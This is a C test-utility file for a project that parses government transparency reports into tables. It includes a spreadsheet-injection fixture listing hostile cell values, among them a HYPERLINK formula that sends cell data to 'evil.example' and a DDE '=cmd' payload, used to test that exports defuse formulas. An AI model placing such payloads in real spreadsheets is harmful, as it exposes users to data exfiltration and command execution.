#include <stdarg.h>
#include <string.h>
#include <glib/gstdio.h>

#include <json-glib/json-glib.h>

#include "cf-test-util.h"

const char *
cf_test_srcdir (void)
{
  const char *dir = g_getenv ("CF_TEST_SRCDIR");

  return dir ? dir : ".";
}

char *
cf_test_path (const char *first, ...)
{
  g_autoptr (GPtrArray) parts = g_ptr_array_new ();
  va_list ap;

  g_ptr_array_add (parts, (gpointer) cf_test_srcdir ());
  va_start (ap, first);
  for (const char *p = first; p != NULL; p = va_arg (ap, const char *))
    g_ptr_array_add (parts, (gpointer) p);
  va_end (ap);
  g_ptr_array_add (parts, NULL);
  return g_build_filenamev ((char **) parts->pdata);
}

char *
cf_test_make_tmpdir (void)
{
  g_autoptr (GError) error = NULL;
  char *dir = g_dir_make_tmp ("crossfoot-test-XXXXXX", &error);

  g_assert_no_error (error);
  return dir;
}

void
cf_test_rm_rf (const char *path)
{
  g_autoptr (GDir) dir = NULL;
  const char *name;

  if (g_file_test (path, G_FILE_TEST_IS_DIR) && !g_file_test (path, G_FILE_TEST_IS_SYMLINK))
    {
      dir = g_dir_open (path, 0, NULL);
      while (dir && (name = g_dir_read_name (dir)) != NULL)
        {
          g_autofree char *child = g_build_filename (path, name, NULL);
          cf_test_rm_rf (child);
        }
    }
  g_remove (path);
}

CfDocument *
cf_test_load_corpus (const char *sub, const char *name)
{
  g_autoptr (GError) error = NULL;
  g_autofree char *path = cf_test_path ("corpus", sub, name, NULL);
  CfDocument *doc = cf_loader_load_file (path, NULL, NULL, &error);

  g_assert_no_error (error);
  g_assert_nonnull (doc);
  return doc;
}

const char *
cf_test_cell_text (CfTable *table, int row, int col)
{
  CfCell *cell = cf_table_get_cell (table, row, col);

  return cell ? cell->text : NULL;
}

static char *
cell_meaning (const CfCell *cell)
{
  if (cell->flags & CF_CELL_FLAG_MISSING)
    return g_strdup ("<missing>");
  if (cell->number.kind == CF_NUMBER_VALUE)
    return g_strdup_printf ("%.6g %s", cell->number.value, cell->number.unit);
  if (cell->number.kind == CF_NUMBER_BLANK)
    return g_strdup ("");
  return cf_normalize_label (cell->text);
}

CfTable *
cf_test_table_by_id (CfDocument *doc, const char *id, guint *index)
{
  GPtrArray *tables = cf_document_get_tables (doc);

  for (guint i = 0; i < tables->len; i++)
    if (g_strcmp0 (cf_table_get_id (g_ptr_array_index (tables, i)), id) == 0)
      {
        *index = i;
        return g_ptr_array_index (tables, i);
      }
  g_error ("no table \"%s\" in %s", id, cf_document_get_path (doc) ? cf_document_get_path (doc) : "the document");
  return NULL;
}

GHashTable *
cf_test_canonical_cells (CfDocument *doc, const char *const *table_ids)
{
  GHashTable *cells = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, g_free);
  GPtrArray *tables = cf_document_get_tables (doc);

  for (guint t = 0; t < tables->len; t++)
    {
      CfTable *table = g_ptr_array_index (tables, t);
      const char *id = cf_table_get_id (table);

      if (table_ids != NULL && (id == NULL || !g_strv_contains (table_ids, id)))
        continue;
      for (guint i = 0; i < cf_table_get_n_cells (table); i++)
        {
          CfCell *cell = cf_table_get_cell_at (table, i);

          if (cell->row_key == NULL || cell->col_key == NULL)
            continue;
          g_hash_table_insert (cells, g_strdup_printf ("%s/%s/%s", id, cell->row_key, cell->col_key),
                               cell_meaning (cell));
        }
    }
  return cells;
}

CfTestOutcome
cf_test_read_variant (const char *sub, const char *name, CfTestSidecarScope scope)
{
  g_autofree char *path = cf_test_path (sub, name, NULL);
  g_autofree char *sidecar = g_strconcat (path, ".json", NULL);
  g_autoptr (JsonParser) parser = json_parser_new ();
  g_autoptr (GError) error = NULL;
  g_autoptr (CfDocument) doc = NULL;
  g_autoptr (GHashTable) got = NULL;
  g_autoptr (GList) members = NULL;
  CfTable *requests = NULL;
  GPtrArray *findings;
  JsonObject *cells;
  CfTestOutcome out = { 0 };

  json_parser_load_from_file (parser, sidecar, &error);
  g_assert_no_error (error);
  cells = json_object_get_object_member (json_node_get_object (json_parser_get_root (parser)),
                                         "cells");
  doc = cf_loader_load_file (path, NULL, NULL, &error);
  g_assert_no_error (error);
  cf_audit_document (doc, NULL);
  if (scope == CF_TEST_SIDECAR_ALL_TABLES)
    got = cf_test_canonical_cells (doc, NULL);
  else
    {
      requests = cf_document_find_table (doc, "requests");
      g_assert_nonnull (requests);
    }

  members = json_object_get_members (cells);
  for (GList *l = members; l != NULL; l = l->next)
    {
      const char *key = l->data;
      const char *want = json_object_get_string_member (cells, key);
      g_autofree char *read = NULL;

      if (scope == CF_TEST_SIDECAR_ALL_TABLES)
        {
          const char *meaning = g_hash_table_lookup (got, key);

          if (meaning != NULL && strcmp (meaning, "<missing>") != 0)
            read = g_strstrip (g_strdup (meaning));
        }
      else
        {
          g_auto (GStrv) parts = g_strsplit (key, "/", 3);
          CfCell *cell;

          if (scope == CF_TEST_SIDECAR_REQUESTS && g_strcmp0 (parts[0], "requests") != 0)
            continue;
          cell = cf_table_find_by_keys (requests, parts[1], parts[2]);
          if (cell != NULL && !(cell->flags & CF_CELL_FLAG_MISSING))
            read = g_strdup (cell->text);
        }
      out.of++;
      if (read == NULL)
        {
          g_test_message ("%s: %s printed \"%s\", not read", name, key, want);
          out.missing++;
        }
      else if (strcmp (read, want) == 0)
        out.right++;
      else
        {
          g_test_message ("%s: %s printed \"%s\", read \"%s\"", name, key, want, read);
          out.wrong++;
        }
    }
  findings = cf_document_get_findings (doc);
  for (guint i = 0; findings != NULL && i < findings->len; i++)
    {
      const CfFinding *f = g_ptr_array_index (findings, i);

      if (f->severity == CF_SEVERITY_ERROR)
        {
          g_test_message ("%s: error %s", name, f->rule);
          out.errors++;
        }
    }
  g_test_message ("%s: %u right, %u missing, %u wrong of %u, %u errors", name, out.right,
                  out.missing, out.wrong, out.of, out.errors);
  return out;
}

const CfTestCorpusFile cf_test_corpus[CF_TEST_N_CORPUS] = {
  { "text", "danfeng-psb-2020.txt" },
  { "text", "shenzhen-psb-2020.txt" },
  { "text", "shizuishan-psb-2020.txt" },
  { "text", "zhaotong-psb-2016.txt" },
  { "text", "zibo-gaoxin-psb-2022.txt" },
  { "html", "city-2025-placeholder-headers.html" },
  { "html", "shanghai-gov-office-2019.html" },
};

void
cf_test_copy_file (const char *from, const char *to)
{
  g_autofree char *data = NULL;
  gsize len = 0;
  g_autoptr (GError) error = NULL;

  g_assert_true (g_file_get_contents (from, &data, &len, &error));
  g_assert_no_error (error);
  g_assert_true (g_file_set_contents (to, data, len, &error));
  g_assert_no_error (error);
}

void
cf_test_copy_corpus (const char *text_dir, const char *html_dir)
{
  for (gsize i = 0; i < G_N_ELEMENTS (cf_test_corpus); i++)
    {
      const CfTestCorpusFile *report = &cf_test_corpus[i];
      g_autofree char *from = cf_test_path ("corpus", report->sub, report->name, NULL);
      const char *dir = g_str_equal (report->sub, "html") ? html_dir : text_dir;
      g_autofree char *to = g_build_filename (dir, report->name, NULL);

      cf_test_copy_file (from, to);
    }
}

int
cf_test_run_with_data_dir (void)
{
  g_autofree char *data = cf_test_make_tmpdir ();
  int status;

  g_setenv ("CROSSFOOT_DATA_DIR", data, TRUE);
  status = g_test_run ();
  cf_test_rm_rf (data);
  return status;
}

/* AddressSanitizer builds (-Db_sanitize=address) run code some 2-4 times
 * slower: their timing checks get that much more room by themselves. */
#if defined(__SANITIZE_ADDRESS__)
#define SANITIZER_SLOWDOWN 4.0
#elif defined(__has_feature)
#if __has_feature(address_sanitizer)
#define SANITIZER_SLOWDOWN 4.0
#endif
#endif
#ifndef SANITIZER_SLOWDOWN
#define SANITIZER_SLOWDOWN 1.0
#endif

double
cf_test_time_limit (double seconds)
{
  const char *factor = g_getenv ("CF_TEST_TIME_FACTOR");
  double f = factor ? g_ascii_strtod (factor, NULL) : 1.0;

  return seconds * (f >= 1.0 ? f : 1.0) * SANITIZER_SLOWDOWN;
}

/* ---- spreadsheet injection ---- */

const char *const cf_test_hostile_texts[] = {
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1:A2)",
  "\t=1+1",
  "\r=1+1",
  NULL,
};

const char *const cf_test_kept_texts[] = {
  "-5", "+7", "-1,234.5", "-12%", "(5)",
  "-", /* the dash reports print for zero: no spreadsheet runs it */
  NULL,
};

gboolean
cf_test_is_live_text (const char *text)
{
  if (text == NULL || text[0] == '\0' || strchr ("=+-@\t\r", text[0]) == NULL)
    return FALSE;
  if (g_strv_contains (cf_test_kept_texts, text))
    return FALSE;
  /* The numbers as the exports print their values (-1234.5, -12). */
  return !g_regex_match_simple ("^-[0-9]+(\\.[0-9]+)?$", text, 0, 0);
}

CfDocument *
cf_test_hostile_document (CfReview **review)
{
  CfDocument *doc = cf_document_new ("@hostile.txt", CF_DOCUMENT_KIND_TEXT);
  g_autoptr (CfTable) table = cf_table_new ();
  guint n_hostile = g_strv_length ((char **) cf_test_hostile_texts);
  guint n_kept = g_strv_length ((char **) cf_test_kept_texts);
  CfFinding *finding;

  cf_document_set_sha256 (doc, "0123hostile");
  cf_document_set_form (doc, "gip-2021");
  cf_table_set_id (table, "requests");
  /* Column 0: the hostile texts, column 1: the kept ones. */
  for (guint row = 0; row < MAX (n_hostile, n_kept); row++)
    {
      const char *label = row < n_hostile ? cf_test_hostile_texts[row] : "x";
      const char *number = row < n_kept ? cf_test_kept_texts[row] : "1";
      CfCell *text_cell = cf_table_add_cell (table, row, 0, 1, 1, label, -1, 0);
      CfCell *number_cell = cf_table_add_cell (table, row, 1, 1, 1, number, -1, 0);

      if (row < 2)
        {
          cf_cell_set_keys (text_cell, row == 0 ? "new" : "carried_over", "natural_person");
          cf_cell_set_keys (number_cell, row == 0 ? "new" : "carried_over", "total");
        }
    }
  cf_table_finish (table);
  cf_document_add_table (doc, table);

  finding = cf_finding_new (CF_SEVERITY_ERROR, "=rule()", "requests", "=1+2 does not add up");
  cf_finding_add_cell (finding, "requests", 0, 1, "new", "total");
  cf_finding_set_values (finding, TRUE, -5, TRUE, 7);
  cf_document_take_finding (doc, finding);
  if (review != NULL)
    {
      *review = cf_review_new (NULL, cf_document_get_sha256 (doc), NULL);
      g_assert_true (cf_review_accept (*review, finding, "@note =1+1", NULL));
    }
  return doc;
}

double
cf_test_memory_limit (double megabytes)
{
  /* Shadow memory, redzones and the quarantine of freed blocks: an ASan
   * build holds some three times what the program does. */
  return megabytes * (SANITIZER_SLOWDOWN > 1.0 ? 3.0 : 1.0);
}
